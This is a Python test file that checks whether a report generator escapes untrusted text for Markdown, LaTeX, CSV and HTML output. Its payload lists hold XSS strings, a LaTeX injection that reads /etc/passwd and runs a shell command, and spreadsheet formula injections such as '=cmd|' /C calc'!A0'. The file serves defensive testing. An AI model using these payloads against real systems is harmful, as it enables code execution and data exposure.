"""Labels, notes and claims are text in every form of the report, whatever characters they have."""

from __future__ import annotations

import html
import re
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from omtl.site.build import pages
from omtl.site.sources import Sources
from omtl.util.paths import RESULTS
from omtl.util.result_files import for_latex, for_markdown, one_line, read_csv, write_csv

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "[click](javascript:alert(1))",
    "![seen](http://elsewhere.example/pixel.png)",
    "<http://elsewhere.example>",
    "a | b | **bold** `code` ~~gone~~",
    "# heading",
    "1. item\n2. item",
    "- [ ] item",
    "***",
    "[1cm] after a line",
    "---",
    "first\n\n<div>second",
    r"\input{/etc/passwd} \write18{ls} $x_1^2$ % gone & more # {}~^\\",
    "&lt;b&gt; &amp; &#60;",
    "_a_ n_tasks __b__",
    "\\",
    "`",
]

rendered = MarkdownIt("commonmark").enable("table")


def shown(markup: str) -> str:
    """Return what a page of Markdown shows as text."""
    return html.unescape(re.sub(r"<[^>]*>", "", rendered.render(markup))).strip()


@given(st.text(max_size=40) | st.sampled_from(HOSTILE))
@example("1)")
@example("=")
@example("+ a")
@example("> a")
def test_markdown_shows_the_text(written: str) -> None:
    """As a cell, as an item and as a heading, with nothing made of it."""
    escaped = for_markdown(written)
    assert "\n" not in escaped
    page = f"# {escaped}\n\n| | a |\n| --- | --- |\n| {escaped} | 1 |\n\n- {escaped}\n"
    tags = re.findall(r"<(\w+)", rendered.render(page))
    known = "h1 table thead tbody tr th td ul li"
    assert set(tags) <= set(known.split())
    assert shown(f"- {escaped}") == one_line(written)


@pytest.mark.parametrize("written", HOSTILE)
def test_latex_has_no_command_of_the_text(written: str) -> None:
    """Each character that LaTeX would act on is one that it prints."""
    escaped = for_latex(written)
    allowed = r"\\text(?:backslash|asciitilde|asciicircum|less|greater)\{\}|\\[{}%_&#$]|\$\\pm\$"
    assert not re.search(r"[\\{}%_&#$~^<>\n]", re.sub(allowed, "", escaped.removeprefix("{}")))
    assert not escaped.startswith(("[", "*"))  # which a line break before it would read


FORMULAS = [
    '=HYPERLINK("http://elsewhere.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2 +cmd|' /C calc'!A0",
    "- 1 +HYPERLINK(A1)",
    "-1 +HYPERLINK(A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
]
NUMBERS = ["-0.5", "+1e-3", "-1.5 0.2 -3", "-inf", "1", "", "nan", "-2.451 (Spam: Sum < TOL)", "'x"]


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"])) | st.sampled_from(FORMULAS))
def test_csv_gives_back_every_text_and_a_spreadsheet_computes_none(written: str) -> None:
    """What could be a formula has an apostrophe, which reading removes; numbers have none."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "rows.csv"
        texts = [written, *FORMULAS, *NUMBERS]
        write_csv(path, pd.DataFrame({"text": texts, "n": range(len(texts))}))  # no row is blank
        raw, *more = pd.read_csv(path, dtype=str, keep_default_na=False)["text"]
        assert not raw.startswith(("=", "@"))
        assert more == [f"'{formula}" for formula in FORMULAS] + NUMBERS
        assert read_csv(path)["text"].tolist() == [written, *FORMULAS, *NUMBERS]


def test_a_report_shows_hostile_texts_of_results_as_text(tmp_path: Path) -> None:
    """From the files to the pages: claims, their places, notes on the print and on theorems.

    Notes may have emphasis; no tag, script, address or picture of theirs reaches a page.
    """
    hostile = "".join(HOSTILE[:5])
    texts = {
        "claims.csv": ["place", "sentence", "predicate", "untrue_in_print"],
        "proofread.csv": ["says", "printed"],
        "theory.csv": ["theorem", "part", "at", "warning", "notes"],
    }
    for name, columns in texts.items():
        rows = pd.read_csv(RESULTS / name, dtype=str, keep_default_na=False)
        rows[columns] = hostile + rows[columns]
        rows.to_csv(tmp_path / name, index=False)
    made, _ = pages(Sources(tmp_path))
    for name, page in made.items():
        for dangerous in ("<script>alert", "<img src=x", 'href="javascript', 'src="http://else'):
            assert not name.endswith(".html") or dangerous not in page, (name, dangerous)
    for name in ("claims.html", "proofread.html", "theory.html"):
        assert "alert(1)" in made[name], name
